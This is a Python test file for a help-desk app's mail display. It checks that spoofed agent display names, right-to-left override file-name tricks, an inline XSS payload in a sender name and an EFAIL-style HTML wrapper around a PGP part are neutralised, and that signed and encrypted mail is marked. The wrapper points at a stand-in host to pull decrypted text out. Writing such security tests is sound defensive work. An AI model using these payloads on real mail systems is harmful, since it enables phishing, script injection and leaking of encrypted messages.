# SPDX-License-Identifier: AGPL-3.0-or-later
"""What strangers write stands on the agent's pages as what it is: M16, M17, M22."""

from collections.abc import Callable
from email.message import EmailMessage

import pytest
from flask.testing import FlaskClient
from lxml import html
from mail.letters import receive
from mail.servers import rows
from sqlalchemy import select
from tresen.desk import Core, desk_for
from tresen.mail.models import InboundMail
from tresen.mail.reading.parser import Parser
from tresen.people.models import Person
from tresen.tickets.models import Message, Ticket

SignIn = Callable[[Person], FlaskClient]
# Right-to-left override: what follows is read backwards, so that txt.exe looks like exe.txt.
OVERRIDE = "\u202e"
SHOWN = "[U+202E]"


@pytest.fixture
def browser(agent: Person, sign_in: SignIn) -> FlaskClient:
    return sign_in(agent)


def raw_mail(sender: str, subject: str, file_name: str = "") -> bytes:
    """A mail whose header says these things, whatever they are."""
    mail = EmailMessage()
    mail["From"], mail["Subject"] = sender, subject
    mail["Message-ID"] = "<shown-1@kunde.example>"
    mail.set_content("It was fine yesterday.")
    if file_name:
        mail.add_attachment(b"x", maintype="text", subtype="plain", filename=file_name)
    return mail.as_bytes()


def page_of(core: Core, browser: FlaskClient, parser: Parser, raw: bytes) -> html.HtmlElement:
    """Let the mail come in; return the page of its ticket."""
    receive(core, parser, raw)
    (ticket,) = rows(core, Ticket)
    answer = browser.get(f"/tickets/{ticket.number}")
    assert answer.status_code == 200
    return html.document_fromstring(answer.text)


def badges_of(page: html.HtmlElement) -> list[str]:
    """What stands beside the sender of the only message."""
    return page.xpath(
        "//article[contains(@class, 'message')]/header//*[contains(@class, 'badge')]/text()"
    )


def files_of(page: html.HtmlElement) -> list[str]:
    """The names of the files of the only message."""
    return page.xpath("//article//ul[@class='chips']//bdi/text()")


def test_atk_m16_name_that_looks_like_an_agents_stands_beside_the_address(
    core: Core, browser: FlaskClient, parser: Parser
) -> None:
    pretended = '"Anna Agent <anna@tresen.example>" <evil@fremd.example>'
    page = page_of(core, browser, parser, raw_mail(pretended, "Your password"))
    (message,) = page.find_class("message")
    (name,), (address,) = message.find_class("from"), message.find_class("address")
    assert name.text_content() == "Anna Agent <anna@tresen.example>"
    assert (address.tag, address.text_content()) == ("bdi", "evil@fremd.example")
    assert "message-customer" in message.get("class")


def test_atk_m16_markup_in_a_name_is_text_on_the_page(
    core: Core, browser: FlaskClient, parser: Parser
) -> None:
    pretended = '"<img src=x onerror=alert(1)>" <evil@fremd.example>'
    page = page_of(core, browser, parser, raw_mail(pretended, "Hello"))
    (message,) = page.find_class("message")
    assert message.find_class("from")[0].text_content() == "<img src=x onerror=alert(1)>"
    assert page.xpath("//*[@onerror]") == []


def test_atk_m17_override_in_name_subject_and_file_name_is_visible_and_isolated(
    core: Core, browser: FlaskClient, parser: Parser
) -> None:
    raw = raw_mail(
        f'"Karla{OVERRIDE}nidnuK" <karla@kunde.example>',
        f"Invoice{OVERRIDE}fdp.exe",
        f"plan{OVERRIDE}txt.exe",
    )
    page = page_of(core, browser, parser, raw)
    assert OVERRIDE not in html.tostring(page, encoding="unicode")
    for text in (f"Karla{SHOWN}nidnuK", f"Invoice{SHOWN}fdp.exe"):
        holders = page.xpath("//*[text()[contains(., $text)]]", text=text)
        shown = [each for each in holders if each.tag not in ("title", "option", "textarea")]
        assert shown != []
        assert {is_isolated(each) for each in shown} == {True}
    assert files_of(page) == [f"plan{SHOWN}txt.exe"]


def is_isolated(element: html.HtmlElement) -> bool:
    """Whether the direction of the text ends with its element."""
    around = [element, *element.iterancestors()]
    return any(each.tag == "bdi" or each.get("dir") == "auto" for each in around)


def test_atk_m17_lists_isolate_what_strangers_wrote(
    core: Core, browser: FlaskClient, parser: Parser
) -> None:
    receive(core, parser, raw_mail("\u05d0\u05d1 <a@kunde.example>", "\u05d0\u05d1 (1)"))
    for address in ("/tickets/?show=all", "/mail/?outcome=", "/people/"):
        page = html.document_fromstring(browser.get(address).text)
        holders = page.xpath("//main//*[text()[contains(., $text)]]", text="\u05d0\u05d1")
        assert holders != []
        assert {is_isolated(each) for each in holders} == {True}


SIGNED = (
    b'Content-Type: multipart/signed; micalg=sha-256; boundary=b; protocol="application/%s"\n\n'
    b"--b\nContent-Type: text/plain\n\nPlease pay.\n"
    b"--b\nContent-Type: application/%s; name=%s\nContent-Disposition: attachment; filename=%s\n"
    b"Content-Transfer-Encoding: base64\n\nQUJD\n--b--\n"
)
PGP_ENCRYPTED = (
    b"Content-Type: multipart/encrypted; boundary=b; protocol=application/pgp-encrypted\n\n"
    b"--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n"
    b"--b\nContent-Type: application/octet-stream; name=encrypted.asc\n\n"
    b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n--b--\n"
)
SMIME_ENCRYPTED = (
    b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n"
    b"Content-Transfer-Encoding: base64\n\nQUJD\n"
)
INLINE_ENCRYPTED = (
    b"Content-Type: text/plain\n\n-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n"
)
INLINE_SIGNED = (
    b"Content-Type: text/plain\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nPlease pay.\n"
    b"-----BEGIN PGP SIGNATURE-----\n\niQEz\n-----END PGP SIGNATURE-----\n"
)
NOT_CHECKED = "Signed: the signature is not checked"
NOT_OPENED = "Encrypted: Tresen cannot open it"
PROTECTED = {
    "S/MIME signed": (SIGNED % ((b"pkcs7-signature",) * 2 + (b"smime.p7s",) * 2), NOT_CHECKED),
    "PGP signed": (SIGNED % ((b"pgp-signature",) * 2 + (b"signature.asc",) * 2), NOT_CHECKED),
    "PGP signed inline": (INLINE_SIGNED, NOT_CHECKED),
    "PGP encrypted": (PGP_ENCRYPTED, NOT_OPENED),
    "S/MIME encrypted": (SMIME_ENCRYPTED, NOT_OPENED),
    "PGP encrypted inline": (INLINE_ENCRYPTED, NOT_OPENED),
}


@pytest.mark.parametrize("kind", PROTECTED)
def test_atk_m22_protected_mail_is_marked_and_kept(
    core: Core, browser: FlaskClient, parser: Parser, kind: str
) -> None:
    entity, mark = PROTECTED[kind]
    raw = b"From: karla@kunde.example\nMessage-ID: <m22@kunde.example>\n" + entity
    page = page_of(core, browser, parser, raw)
    assert mark in badges_of(page)
    (mail_id,) = [row.id for row in rows(core, InboundMail)]
    assert browser.get(f"/mail/{mail_id}/raw").data == raw
    shown = page.find_class("message")[0].text_content()
    assert ("Please pay." in shown, bool(files_of(page))) == ("igned" in kind, "inline" not in kind)


def test_atk_m22_plain_mail_bears_no_mark(core: Core, browser: FlaskClient, parser: Parser) -> None:
    page = page_of(core, browser, parser, raw_mail("karla@kunde.example", "Hello"))
    assert badges_of(page) == ["Mail"]


def test_atk_m22_encrypted_part_never_comes_between_the_html_around_it(
    core: Core, browser: FlaskClient, parser: Parser
) -> None:
    """EFAIL: an open quote before the secret would send it to the attacker when it is joined."""
    before = b'<img src="http://fremd.example/'
    raw = (
        b"From: karla@kunde.example\nMessage-ID: <m22@kunde.example>\n"
        b"Content-Type: multipart/mixed; boundary=a\n\n"
        b"--a\nContent-Type: text/html\n\n" + before + b"\n--a\n" + PGP_ENCRYPTED + b"\n"
        b'--a\nContent-Type: text/html\n\n">\n--a--\n'
    )
    page = page_of(core, browser, parser, raw)
    with desk_for(core) as desk:
        (message,) = desk.session.execute(select(Message.html, Message.body)).all()
    assert ("BEGIN PGP" in (message.html or ""), "hQEMA" in message.body) == (False, False)
    assert NOT_OPENED in badges_of(page)
    assert "encrypted.asc" in files_of(page)
